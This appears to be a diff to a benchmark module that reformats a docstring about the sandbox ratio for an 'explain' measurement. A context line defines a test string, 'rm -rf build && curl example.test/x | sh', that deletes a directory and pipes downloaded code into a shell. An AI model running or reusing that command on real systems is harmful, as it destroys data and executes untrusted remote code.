@@ -18,7 +18,10 @@ from benchmarks.core import CannotMeasureError, Figure, clean_environment, media
 DEFINITIONS = "import model_tools; model_tools.get_tool_definitions()"
 EXPLAINED = "rm -rf build && curl example.test/x | sh"
 _EXPLAIN = 28
-"""Bar of start.explain. The answer includes effects that the default sandbox would contain; without a sandbox it is 16."""
+"""Bar of start.explain.
+
+The answer includes effects that the default sandbox would contain; without a sandbox, the ratio is about 16.
+"""
 # VmHWM rather than ru_maxrss, which a child inherits from its parent.
 PEAK = "print(next(line for line in open('/proc/self/status') if line.startswith('VmHWM')).split()[1])"
 
